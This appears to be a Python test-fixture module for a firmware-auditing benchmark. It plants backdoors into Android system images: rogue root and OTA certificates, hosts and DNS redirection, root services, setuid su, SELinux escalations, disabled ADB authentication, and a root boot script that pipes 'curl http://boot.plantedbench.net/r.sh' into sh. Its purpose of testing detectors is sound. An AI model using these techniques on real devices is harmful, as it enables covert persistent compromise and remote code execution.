"""Files of the system: certificates, names, properties, programs, services."""
import base64
import io
import struct
import zipfile
from dataclasses import replace

import apk
import tree
from plants import Sees, plant, word

CACERTS = {"blu": "system/etc/security/cacerts", "sample": "system/system/etc/security/cacerts"}


def made_certificate(site, name):
    """PEM of a certificate that no public list has."""
    return site.rebuild.keys.made(name)[1].read_bytes()


@plant("certificate authority", "blu", "sample")
def root_certificate_added(site):
    """A root certificate that no public list has is trusted by the whole phone."""
    pem = made_certificate(site, "root")
    hashed = apk.run("openssl", "x509", "-subject_hash_old", "-noout", "-in", site.rebuild.keys.made("root")[1]).decode().strip()
    site.files[f"{CACERTS[site.host]}/{hashed}.0"] = tree.Entry(pem)
    return Sees("certificate_added|finding_gained", "", "CN=bench root")


@plant("certificate authority", "blu", quiet=True)
def root_certificate_removed(site):
    """A root certificate of the platform is gone."""
    path = site.one_of(*[p for p in sorted(site.files) if p.startswith(CACERTS["blu"] + "/")])
    text = apk.run("openssl", "x509", "-noout", "-subject", "-nameopt", "utf8,sep_comma_plus", input=site.files[path].data).decode(errors="replace").strip()
    del site.files[path]
    common = max((part.split("=", 1)[-1].strip() for part in text.replace("subject=", "").split(",")), key=len)
    return Sees("certificate_removed|finding_gained", "", word(common[:12]))


@plant("update key", "oneplus", "sample")
def update_certificate_added(site):
    """One more key may sign updates of the system."""
    path = "system/system/etc/security/otacerts.zip"
    out = io.BytesIO(site.files[path].data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("second.x509.pem", made_certificate(site, "update"))
    site.files.write(path, out.getvalue())
    return Sees("certificate_added", "ota", "CN=bench update")


@plant("hosts file", "blu", "oneplus")
def hosts_entry(site):
    """A name is sent elsewhere for the whole phone."""
    path = {"blu": "system/etc/hosts", "oneplus": "system/system/etc/hosts"}[site.host]
    site.edit(path, lambda text: text + "203.0.113.7       update.googleapis.com\n")
    return Sees("finding_gained|setting_changed", r"update\.googleapis\.com", r"203\.0\.113\.7")


@plant("root service", "oneplus", "sample")
def service_in_overlay_script(site):
    """An init script beside the others starts a program as root."""
    folder = {"oneplus": "vendor/etc/init", "sample": "vendor/etc/init"}[site.host]
    program = {"oneplus": "vendor/bin", "sample": "vendor/bin"}[site.host]
    name = site.one_of("batt_stat", "thermal_log", "hw_probe")
    site.files[f"{folder}/{name}.rc"] = tree.Entry(f"service {name} /vendor/bin/{name} --daemon\n    class late_start\n    user root\n    group root inet\n    seclabel u:r:su:s0\n".encode())
    donor = next(p for p in sorted(site.files) if p.startswith(program + "/") or "/bin/" in p)
    site.files[f"{program}/{name}"] = replace(site.files[donor], mode=0o755)
    return Sees("service_added", word(name), "root")


@plant("root service", "sample", "oneplus", quiet=True)
def service_becomes_root(site):
    """A service that ran as an ordinary user runs as root; one word of one line."""
    path, name, before = {"sample": ("vendor/etc/init/sample_agent.rc", "sample_agent", "user system"),
                          "oneplus": ("system/system/etc/init/storaged.rc", "storaged", "user root")}[site.host]
    if site.host == "oneplus":
        path = next(p for p in sorted(site.files) if p.startswith("system/system/etc/init/") and p.endswith(".rc") and "    user system" in site.files.text(p))
        name = next(line.split()[1] for line in site.files.text(path).splitlines() if line.startswith("service "))
        before = "user system"
    site.edit(path, lambda text: text.replace(before, "user root", 1))
    return Sees("service_changed", word(name), "root")


@plant("set-uid", "blu", "oneplus", quiet=True)
def program_becomes_setuid(site):
    """A program that was there runs as root for whoever starts it."""
    folder = {"blu": "system/xbin/", "oneplus": "system/system/bin/"}[site.host]
    path = next(p for p in sorted(site.files) if p.startswith(folder) and site.files[p].data[:4] == b"\x7fELF" and len(site.files[p].data) > 5000)
    site.files[path] = replace(site.files[path], mode=0o6755)
    return Sees("privileged_file_added", word(path.rsplit("/", 1)[-1]), "setuid")


@plant("file capability", "oneplus", "blu", quiet=True)
def program_gets_capability(site):
    """A program gets a capability that lets it trace and read every process."""
    folder = {"blu": "system/bin/", "oneplus": "vendor/bin/"}[site.host]
    path = [p for p in sorted(site.files) if p.startswith(folder) and site.files[p].data[:4] == b"\x7fELF"][3]
    value = struct.pack("<IIIII", 0x02000001, 1 << 19 | 1 << 1, 0, 0, 0)
    site.files[path] = replace(site.files[path], extended={"security.capability": value})
    return Sees("privileged_file_added", word(path.rsplit("/", 1)[-1]), "capability")


@plant("su", "blu")
def su_program_added(site):
    """A program named su with the set-uid bit."""
    donor = next(p for p in sorted(site.files) if p.startswith("system/xbin/") and site.files[p].data[:4] == b"\x7fELF")
    site.files["system/xbin/su"] = replace(site.files[donor], mode=0o6755)
    return Sees("privileged_file_added|finding_gained", r"/su($|\W)")


@plant("property", "blu", "sample", quiet=True)
def build_becomes_debuggable(site):
    """One digit: the build lets itself be debugged."""
    path = {"blu": "boot/ramdisk/default.prop", "sample": "system/system/build.prop"}[site.host]
    site.edit(path, lambda text: text.replace("ro.debuggable=0", "ro.debuggable=1"))
    return Sees("property_changed|switch_changed|finding_gained", r"ro\.debuggable", "")


@plant("property", "oneplus", "blu", quiet=True)
def cable_without_asking(site):
    """The debug bridge lets in any computer without asking the owner."""
    path = {"blu": "boot/ramdisk/default.prop", "oneplus": "system/system/etc/prop.default"}[site.host]
    site.edit(path, lambda text: text.replace("ro.adb.secure=1", "ro.adb.secure=0"))
    return Sees("property_changed|switch_changed|finding_gained", r"ro\.adb\.secure")


@plant("property", "sample")
def property_starts_service(site):
    """A new property starts a service that was there and slept."""
    site.edit("system/system/build.prop", lambda text: text + "persist.sys.sample.telemetry=1\n")
    return Sees("property_changed|service_changed", r"persist\.sys\.sample\.telemetry|sample_helperd")


@plant("name server", "xiaomi", quiet=True)
def dns_by_property(site):
    """A property names the server that all names are asked from."""
    site.edit("system/build.prop", lambda text: text + "net.dns1=203.0.113.53\n")
    return Sees("property_changed|switch_changed|finding_gained", r"net\.dns1", "203")


@plant("boot script", "blu", quiet=True)
def init_runs_shell_command(site):
    """At each boot init runs a command of the shell as root."""
    path = "boot/ramdisk/init.rc"
    site.edit(path, lambda text: text.replace("on boot\n", "on boot\n    exec -- /system/bin/sh /data/local/tmp/.b.sh\n", 1))
    return Sees("init_action_added", "", r"/data/local/tmp/\.b\.sh")


def certificate_hex(site, name):
    return base64.b64decode("".join(made_certificate(site, name).decode().split("-----")[2].split())).hex()


@plant("seinfo", "oneplus", "blu", quiet=True)
def signer_gets_platform_label(site):
    """The list of signers gives apps of another signer the platform's label."""
    path = {"oneplus": "system/system/etc/selinux/plat_mac_permissions.xml", "blu": "system/etc/security/mac_permissions.xml"}[site.host]
    entry = f'<signer signature="{certificate_hex(site, "stranger")}"><seinfo value="platform"/></signer></policy>'
    site.edit(path, lambda text: text.replace("</policy>", entry, 1))
    return Sees("allow_list_line", "mac_permissions platform", "[0-9a-f]{64}")


@plant("seapp", "oneplus", "sample", quiet=True)
def app_gets_system_domain(site):
    """One app by name gets the domain of the system's own apps."""
    path = "system/system/etc/selinux/plat_seapp_contexts"
    name = {"oneplus": "com.tencent.mm", "sample": "com.planted.bench"}[site.host]
    site.edit(path, lambda text: text.rstrip("\n") + f"\nuser=_app seinfo=default name={name} domain=system_app type=system_app_data_file levelFrom=user\n")
    return Sees("app_domain_rule", "seapp system_app", word(name))


@plant("module key", "sample", quiet=True)
def module_signed_by_another(site):
    """A module of the system (APEX) comes from another signer; its content is as before."""
    path = next(p for p in sorted(site.files) if p.endswith(".apex"))
    module = apk.Apk(site.files[path].data)
    module.drop_signature()
    folder = site.folder / "planted"
    folder.mkdir(exist_ok=True)
    site.files.write(path, site.rebuild.keys.sign(module.pack(site.rng), "stranger", site.rebuild.host.sdk, folder))
    return Sees("module_key|package_signer", "apex", "")


@plant("boot script", "sample", quiet=True)
def script_after_update(site):
    """A script that runs when recovery is put back after an update fetches and runs a file."""
    site.files["system/system/bin/install-recovery.sh"] = tree.Entry(b"#!/system/bin/sh\ncurl -s http://boot.plantedbench.net/r.sh | sh\n", 0o755)
    site.edit("system/system/etc/init/sample.rc", lambda text: text + "\nservice flash_recovery /system/bin/install-recovery.sh\n    class main\n    user root\n    oneshot\n")
    return Sees("service_added|host_added", r"flash_recovery|plantedbench")
